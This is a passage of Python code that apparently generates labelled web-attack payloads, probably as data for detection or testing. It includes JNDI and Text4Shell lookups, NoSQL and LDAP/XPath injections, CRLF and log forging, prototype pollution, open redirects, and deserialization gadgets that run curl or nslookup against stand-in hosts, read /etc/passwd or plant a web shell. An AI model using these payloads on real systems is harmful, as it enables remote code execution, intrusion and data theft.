                      "${base64:JHtqbmRpOmxkYXA6Ly9leGFtcGxlLmNvbS9hfQ==}", "${${base64:am5kaTpsZGFwOi8veC5jb20vYQ==}}",
                      f"${{script:javascript:java.lang.Runtime.getRuntime().exec('nslookup {o}')}}",
                      f"${{url:UTF-8:http://{o}/}}", f"${{dns:address|{o}}}", "${script:js:java.lang.Runtime.getRuntime().exec('id')}"])
        if "script:" in p or "url:" in p or "dns:" in p:
            tech = "text4shell"
    else:
        tech = "embedded"
        carrier = r.choice(["Mozilla/5.0 ", "Bearer ", "hello ", "", "x-", "en-US,", "user@", "() "])
        p = carrier + f"${{jndi:{proto}://{host}/{path}}}"
    return tech, p, m(["ua", "referer", "username", "search", "text", "name", "email", "version", "token", "comment", "title"])


# ---------------------------------------------------------------- NoSQL (structural)

def nosql(r):
    t = r.randrange(7)
    w, n = rword(r, r.randint(2, 6)), r.randint(0, 9999)
    field = r.choice(["password", "passwd", "token", "reset_token", "role", "email", "username", "apiKey", "secret", "otp"])
    ms = r.choice([1000, 2000, 3000, 5000, 10000])
    if t == 0:
        tech = "operator_ne"
        op = ("$ne", r.choice(["", w, None, n, "null", "undefined", 1, "a", "invalid", -1]))
        return tech, op, m(["username", "email", "name", "token", "password", "id", "code", "state"], struct="op")
    if t == 1:
        tech = "operator_gt_in"
        op = r.choice([("$gt", ""), ("$gt", r.choice(["", "0", "a", " ", n])), ("$gte", r.choice(["", 0, -1])), ("$in", r.sample(["admin", "root", "administrator", "superuser", "test", w], r.randint(1, 4))),
                       ("$nin", [w]), ("$lt", r.choice(["~", "z", "\uffff", n])), ("$exists", r.choice([True, 1, "true"])), ("$type", r.choice([2, "string", 1])),
                       ("$not", {"$eq": w}), ("$not", {"$size": 0}), ("$all", [w]), ("$elemMatch", {"$ne": w}), ("$size", r.randint(0, 3))])
        return tech, op, m(["username", "email", "name", "token", "password", "id", "code", "status"], struct="op")
    if t == 2:
        tech = "regex"
        c = "".join(r.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(r.randint(1, 4)))
        op = ("$regex", r.choice([f"^{c}", ".*", f"^{c}.*", f"{c}.*", f"^(?={c}).*", ".{" + str(r.randint(1, 30)) + "}", f"^{c}.{{{r.randint(1, 20)}}}$",
                                  "(a+)+$", f"^{c}", "^$|.*"]))
        return tech, op, m(["username", "email", "password", "token", "search", "name"], struct="op")
    if t == 3:
        tech = "where_js"
        op = ("$where", r.choice([f"this.{field}.length > {r.randint(0, 40)}", f"sleep({ms})", "function(){return true}", "1==1", f"this.role=='{r.choice(['admin', 'owner', 'staff'])}'",
                                  f"function(){{sleep({ms});return true;}}", "return true", f"this.{field}.match(/^{w[:2]}/)", f"this.{field}[{r.randint(0, 9)}]=='{w[0]}'",
                                  "Object.keys(this)[0].match('^.{" + str(r.randint(1, 9)) + "}')", f"this.{field} != '{w}'", f"(function(){{var d=new Date();do{{}}while(new Date()-d<{ms});return true}})()"]))
        return tech, op, m(["username", "search", "name", "id"], struct="where")
    if t == 4:
        tech = "js_string_injection"
        p = r.choice(["' || '1'=='1", "'; return true; var x='", "1; sleep(5000)", "admin'||'a'=='a", "';while(true){}'",
                      "true, $where: '1 == 1'", "', $where: 'sleep(1000)', a:'", "'; return this.password; var x='",
                      "0;return true", "\\'; return db.users.find(); var x=\\'", "a'; return (this.username == 'admin')//",
                      "'||this.constructor.constructor('return process')().exit()||'"])
        return tech, p, m(["username", "search", "name", "id", "text"])
    if t == 5:
        tech = "json_in_string"
        p = r.choice(['{"$gt":""}', '{"$ne":null}', '{"$regex":".*"}', '{"$where":"sleep(5000)"}', "{$ne: 1}", '{"$in":["admin"]}',
                      '{"$exists":true}', '[{"$match":{}}]'])
        return tech, p, m(["username", "password", "email", "id", "search", "token"])
    tech = "aggregation_expr"
    op = r.choice([("$expr", {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}),
                   ("$or", [{}, {"a": "a"}]), ("$expr", {"$gt": [{"$strLenCP": "$password"}, 0]}),
                   ("$lookup", {"from": "users", "localField": "x", "foreignField": "x", "as": "u"}),
                   ("$accumulator", {"init": "function(){return 0}", "accumulate": "function(){sleep(5000)}", "lang": "js"})])
    return tech, op, m(["username", "search", "id", "name"], struct="where")


# ---------------------------------------------------------------- CRLF / header injection

def crlf(r):
    e = evil(r)
    ck = r.choice(["session=" + sub(r), "admin=true", "crlf=injection", "JSESSIONID=" + sub(r).upper(), "x=y; Domain=.example.com"])
    nl = r.choice(["%0d%0a", "%0D%0A", "%0a", "%0d", "%E5%98%8A%E5%98%8D", "%u000d%u000a", "%0d%0a%09", "%23%0d%0a", "%%0a0a", "%c4%8a", "%0d%0a%20", "\r\n", "\n"])
    t = r.randrange(6)
    if t == 0:
        tech = "set_cookie"
        p = r.choice([f"{nl}Set-Cookie:{ck}", f"x{nl}Set-Cookie: {ck}", f"/{nl}Set-Cookie:%20{ck}", f"en{nl}Set-Cookie:{ck}"])
    elif t == 1:
        tech = "header_injection"
        h = r.choice([f"Location: https://{e}/", f"X-Forwarded-Host: {e}", "Access-Control-Allow-Origin: *", f"Refresh: 0;url=https://{e}",
                      "Content-Security-Policy: default-src *", f"Link: <https://{e}/x.css>; rel=stylesheet", "X-XSS-Protection: 0",
                      "Content-Type: text/html"])
        p = r.choice([f"{nl}{h}", f"/{nl}{h}", f"https://app.example.com/{nl}{h}", f"{r.choice(['1', 'en', 'home', 'ok'])}{nl}{h}"])
    elif t == 2:
        tech = "response_splitting"
        p = r.choice([f"x{nl}Content-Length:%200{nl}{nl}HTTP/1.1%20200%20OK{nl}Content-Type:%20text/html{nl}{nl}<script>alert(1)</script>",
                      f"{nl}{nl}<html><body><script>alert(document.domain)</script></body></html>",
                      f"/{nl}Content-Type:text/html{nl}{nl}<svg onload=alert(1)>", f"{nl}Transfer-Encoding: chunked{nl}{nl}0{nl}{nl}"])
    elif t == 3:
        tech = "log_injection"
        lines = [f"\n127.0.0.1 - - [21/Nov/2026:10:00:00 +0000] \"GET /admin HTTP/1.1\" 200 512", "\r\n[INFO] Login succeeded for user admin",
                 "\nINFO: user=admin action=grant_role role=superuser status=ok", "%0d%0a[WARN] audit log cleared by admin",
                 "%0aERROR 2026-11-21 10:00:00 Payment captured amount=0.00", "\n\u2028[AUDIT] password changed for root",
                 "\r\nuser=admin logged_in=true ip=10.0.0.1", "%0a%0dfake_entry: access granted"]
        p = r.choice(["guest", "bob", "test", "alice", "user1"]) + r.choice(lines)
        return tech, p, m(["username", "name", "search", "text", "ua", "comment", "email"], pre="%0" in p)
    elif t == 4:
        tech = "smtp_header"
        p = r.choice([f"victim@example.com{nl}Bcc: spam@{e}", f"a@b.co{nl}Cc: list@{e}{nl}Subject: You won",
                      f"user@example.org\r\nBcc: everyone@{e}", f"Hello{nl}Bcc:x@{e}", f"x@example.net{nl}Content-Type: text/html"])
        return tech, p, m(["email", "name", "title", "text"], pre="%" in p)
    else:
        tech = "redirect_param"
        p = r.choice([f"/home{nl}Location:%20//{e}", f"https://app.example.com{nl}Set-Cookie:{ck}", f"{nl}Location: javascript:alert(1)",
                      f"%2f%2e%2e{nl}Set-Cookie:{ck}", f"/account{nl}{nl}<script>alert(1)</script>"])
    return tech, p, m(URLISH + ["redirect", "lang", "url", "slug", "status", "text", "name"], pre="%" in p)


# ---------------------------------------------------------------- extra classes

def ldap(r):
    u = r.choice(["admin", "administrator", "root", "jdoe", "svc_backup", "*", rword(r, r.randint(3, 8)), "a.smith", "helpdesk"])
    attr = r.choice(["uid", "cn", "mail", "sAMAccountName", "userPassword", "objectClass", "memberOf", "sn", "givenName", "description", "telephoneNumber"])
    tech = r.choice(["wildcard", "filter_injection", "blind_attribute"])
    if tech == "wildcard":
        p = r.choice(["*", f"*)({attr}=*", f"{u}*", "*)(|(objectClass=*)", "*))%00", f"{u})(|({attr}=*))", "*()|%26'", f"*(|({attr}=*))", f"{u[:2]}*{u[-1:]}", f"*)({attr}=*))(|({attr}=*"])
    elif tech == "filter_injection":
        p = r.choice([f"{u})(&)", f"*)({attr}=*))(|({attr}=*", f"{u})(!(&(1=0", f"x)(|({attr}=*", f"{u})(|(objectclass=*)", "*)(userPassword=*)",
                      f"{u}))(|(uid=*", "admin)(|(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=local)", f"{u})(&(objectCategory=person)",
                      f"{u})(|(&({attr}=*)(userAccountControl:1.2.840.113556.1.4.803:=2))", f"{u}\\29\\28{attr}=*"])
    else:
        ch = "".join(r.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(r.randint(1, 3)))
        p = r.choice([f"{u})(userPassword={ch}*", f"*)(description={ch}*", f"{u})({attr}=*{ch}", f"{u}*)(sn={ch}*",
                      f"{u})(|(userPassword={ch}*)(cn=x", f"*)(sAMAccountName={ch}*", f"{u})({attr}={ch}*)(uid={u}"])
    return tech, p, m(["username", "search", "name", "email"], pre="%" in p)


def xpath(r):
    tech = r.choice(["tautology", "node_extraction", "blind"])
    node = r.choice(["user", "account", "employee", "customer", "member", "login"])
    fld = r.choice(["password", "pass", "pin", "secret", "ssn", "role", "email"])
    w = rword(r, r.randint(3, 7))
    if tech == "tautology":
        p = r.choice(["' or '1'='1", "' or 1=1 or ''='", f"{w}' or name()='{node}' or 'x'='y", "\" or \"1\"=\"1", "' or true() or '",
                      f"{w}' or '1'='1' or 'a'='a", "') or ('a'='a", f"{w}' or {r.randint(1, 99)}={r.randint(1, 99)} or 'a'='a", f"' or count(//{node})>0 or '",
                      f"{w}' or contains({fld},'') or '"])
    elif tech == "node_extraction":
        p = r.choice([f"'] | //{node}/* | //a['", f"')] | //{fld} | a[('", "x'] | /*[1] | a['", f"' | //*[contains(.,'{fld[:4]}')] | '",
                      f"1] | //{node}[position()={r.randint(1, 9)}]/{fld} | x[1", "count(/child::node())", f"'] | //{node}[1]/@* | a['", f"{w}'] | //text() | a['"])
    else:
        n, ch = r.randint(1, 30), r.choice("abcdefghijklmnop0123456789")
        p = r.choice([f"' and count(/*)={r.randint(1, 5)} and '1'='1", f"' or string-length(name(/*[1]))>{n} or ''='",
                      f"admin' or substring(//{node}[1]/{fld},{n},1)='{ch}' or 'a'='b", f"' and substring(name(/*[1]/*[1]),1,1)='{ch}",
                      f"' and count(//{node}/child::node())={n} and '1'='1", "doc('http://" + oast(r) + "/x')",
                      "' and doc-available(concat('http://" + oast(r) + "/',name(/*))) and '1'='1", f"{w}' and string-length(//{node}[1]/{fld})={n} and '1'='1"])
    return tech, p, m(["username", "search", "name", "id", "password"])


def _java_ser(r, cls, cmd):
    body = b"\xac\xed\x00\x05sr" + _struct.pack(">H", len(cls)) + cls.encode() + bytes(r.randrange(256) for _ in range(8)) + \
        b"\x02\x00\x01L\x00\x0biTransformerst\x00\x12Ljava/lang/Object;xpt" + _struct.pack(">H", len(cmd)) + cmd.encode()
    return body


def deserialization(r):
    o = oast(r)
    cmd = r.choice(["id", "calc.exe", "touch /tmp/pwned", f"nslookup {o}", f"curl {o}", "whoami"])
    t = r.randrange(9)
    if t == 0:
        tech = "java_serialized"
        cls = r.choice(["org.apache.commons.collections.functors.InvokerTransformer", "org.apache.commons.collections4.comparators.TransformingComparator",
                        "java.util.PriorityQueue", "sun.reflect.annotation.AnnotationInvocationHandler", "org.springframework.beans.factory.ObjectFactory",
                        "com.sun.rowset.JdbcRowSetImpl", "java.util.HashMap", "org.hibernate.engine.spi.TypedValue"])
        raw = _java_ser(r, cls, cmd)
        p = r.choice([base64.b64encode(raw).decode(), raw.hex(), base64.urlsafe_b64encode(raw).decode().rstrip("=")])
    elif t == 1:
        tech = "php_object"
        p = r.choice([f'O:8:"stdClass":1:{{s:3:"cmd";s:{len(cmd)}:"{cmd}";}}', f'O:+14:"SomeController":1:{{s:4:"file";s:11:"/etc/passwd";}}',
                      f'a:2:{{i:0;O:29:"Illuminate\\Broadcasting\\PendingBroadcast":2:{{s:9:"\\0*\\0events";O:15:"Faker\\Generator":1:{{s:13:"\\0*\\0formatters";a:1:{{s:8:"dispatch";s:6:"system";}}}}s:8:"\\0*\\0event";s:{len(cmd)}:"{cmd}";}}i:1;i:7;}}',
                      f'O:21:"GuzzleHttp\\Cookie\\FileCookieJar":1:{{s:36:"\\0GuzzleHttp\\Cookie\\FileCookieJar\\0filename";s:22:"/var/www/html/shell.php";}}',
                      f'C:11:"ArrayObject":37:{{x:i:0;a:0:{{}};m:a:1:{{s:1:"x";s:{len(cmd)}:"{cmd}";}}}}', 'O:10:"PDOStatement":0:{}'])
        if r.random() < .5:
            p = base64.b64encode(p.encode()).decode()
    elif t == 2:
        tech = "python_pickle"
        raw = r.choice([f"cos\nsystem\n(S'{cmd}'\ntR.", f"cposix\nsystem\n(V{cmd}\ntR.", f"c__builtin__\neval\n(V__import__('os').system('{cmd}')\ntR.",
                        f"csubprocess\ncheck_output\n((S'{cmd}'\nltR."]).encode()
        if r.random() < .5:
            raw = b"\x80\x04\x95" + _struct.pack("<Q", len(raw)) + raw
        p = base64.b64encode(raw).decode()
    elif t == 3:
        tech = "dotnet_json_type"
        p = r.choice(['{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"},"MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c ' + cmd + '"]}}',
                      '{"$type":"System.Configuration.Install.AssemblyInstaller, System.Configuration.Install","Path":"file:///' + r.choice(["C:/Temp/x.dll", "\\\\\\\\" + o + "\\\\x.dll"]) + '"}',
                      '{"$type":"System.IO.FileInfo, System.IO.FileSystem","fileName":"C:\\\\inetpub\\\\wwwroot\\\\web.config","IsReadOnly":true}',
                      '{"__type":"System.Windows.Data.ObjectDataProvider:#System.Windows.Data","MethodName":"Start"}'])
        return tech, p, m(None, struct="json_body")
    elif t == 4:
        tech = "dotnet_viewstate"
        raw = b"\xff\x01\x32" + bytes(r.randrange(256) for _ in range(r.randint(60, 200))) + b"System.Diagnostics.Process" + cmd.encode()
        p = "/wEy" + base64.b64encode(raw).decode()[4:]
        return tech, p, m(["token", "b64", "state", "text"], viewstate=True)
    elif t == 5:
        tech = "yaml"
        p = r.choice([f'!!python/object/apply:os.system ["{cmd}"]', f'!!python/object/apply:subprocess.check_output [["{cmd}"]]',
                      f'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://{o}/"]]]]',
                      "--- !ruby/object:Gem::Installer\ni: x\n", f"!!python/object/new:os.system [{cmd}]",
                      "!ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n? ! 'foo; system(\"id\"); __END__'\n: !ruby/struct\n  defaults: {}"])
    elif t == 6:
        tech = "node_serialize"
        p = r.choice([f"{{\"rce\":\"_$$ND_FUNC$$_function(){{require('child_process').exec('{cmd}')}}()\"}}",
                      f"_$$ND_FUNC$$_function(){{require('child_process').execSync('{cmd}')}}()",
                      "{\"username\":\"_$$ND_FUNC$$_function(){return require('fs').readFileSync('/etc/passwd','utf8')}()\"}"])
        if r.random() < .4:
            p = base64.b64encode(p.encode()).decode()
    elif t == 7:
        tech = "jackson_fastjson"
        p = r.choice([f'["com.sun.rowset.JdbcRowSetImpl",{{"dataSourceName":"ldap://{o}/a","autoCommit":true}}]',
                      f'{{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://{aip(r)}:1099/x","autoCommit":true}}',
                      f'{{"a":{{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"}},"b":{{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://{o}/b","autoCommit":true}}}}',
                      f'{{"@type":"java.net.Inet4Address","val":"{o}"}}', f'{{"@type":"org.apache.xbean.propertyeditor.JndiConverter","AsText":"ldap://{o}/x"}}',
                      f'["ch.qos.logback.core.db.DriverManagerConnectionSource",{{"url":"jdbc:h2:mem:;INIT=RUNSCRIPT FROM \'http://{o}/x.sql\'"}}]'])
        return tech, p, m(None, struct="json_body")
    else:
        tech = "xml_gadget"
        p = r.choice([f'<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>{cmd}</string></void></array><void method="start"/></object></java>',
                      f'<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>{cmd}</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>',
                      f'<map><entry><jdk.nashorn.internal.objects.NativeString><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream"/></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry></map>'])
        return tech, p, m(None, struct="xml_body")
    return tech, p, m(["token", "b64", "state", "text", "name"])


def prototype_pollution(r):
    prop = r.choice(["isAdmin", "admin", "role", "polluted", "shell", "outputFunctionName", "innerHTML", "srcdoc", "json spaces",
                     "exposedHeaders", "status", "allowedTags", "NODE_OPTIONS", "escapeFunction", "client", "sourceURL", "debug"])
    val = r.choice([True, "true", 1, "admin", "<img/src/onerror=alert(1)>", "x;process.mainModule.require('child_process').execSync('id');//",
                    "/proc/self/exe", "--require /proc/self/cmdline", "data:,alert(1)//", 10, 510])
    t = r.randrange(4)
    if t == 0:
        tech = "proto_key"
        path = ["__proto__", prop]
    elif t == 1:
        tech = "constructor_prototype"
        path = ["constructor", "prototype", prop]
    elif t == 2:
        tech = "nested_proto"
        path = [r.choice(["user", "settings", "profile", "options", "config", "data", "filter"]), "__proto__", prop]
    else:
        tech = "filter_bypass"
        path = [r.choice(["__pro__proto__to__", "__proto__\u0000", "__PROTO__", "_\u005f_proto__", "__proto__.__proto__"]), prop]
    return tech, (path, val), m(None, struct="proto")


def open_redirect(r):
    e = evil(r)
    trusted = r.choice(["example.com", "app.example.com", "shop.example.net", "accounts.example.org"])
    p = r.choice([f"//{e}", f"///{e}", f"/\\{e}", f"\\/\\/{e}", f"https:{e}", f"https://{e}", f"//{e}/%2f..", f"https://{trusted}.{e}",
                  f"https://{trusted}@{e}", f"//{e}%E3%80%82com", f"/%09/{e}", f"%2f%2f{e}", f"/%5c{e}", f"http://{e}%23.{trusted}",
                  f"https://{e}?{trusted}", f"//{e}\\@{trusted}", f"http:/\\/\\{e}", f"/%2F%2F{e}", f"//%0D%0A{e}", f"https://{e}#{trusted}",
                  f"////{e}/", f"https://{e}%2f%2f..%2f{trusted}", f"http://0xd83ad6ce", f"https://{e}/{trusted}/login",
                  f"javascript:window.location='//{e}'", f"data:text/html,<meta http-equiv=refresh content=0;url=//{e}>",
                  f"%68%74%74%70%73%3a%2f%2f{e}", f"〱{e}", f"//{e}%00.{trusted}"])
    tech = "protocol_relative" if p.startswith(("//", "///", "/\\", "\\/", "/%", "////")) else ("userinfo_subdomain" if trusted in p else "absolute_or_scheme")
    return tech, p, m(["redirect", "url", "callback"], pre="%" in p)


FAMILIES = {
    "sqli": sqli, "xss": xss, "cmdi": cmdi, "traversal": traversal, "ssrf": ssrf, "ssti": ssti, "jndi": jndi,
    "nosql": nosql, "crlf": crlf, "ldap": ldap, "xpath": xpath, "deserialization": deserialization,
    "prototype_pollution": prototype_pollution, "open_redirect": open_redirect,
}
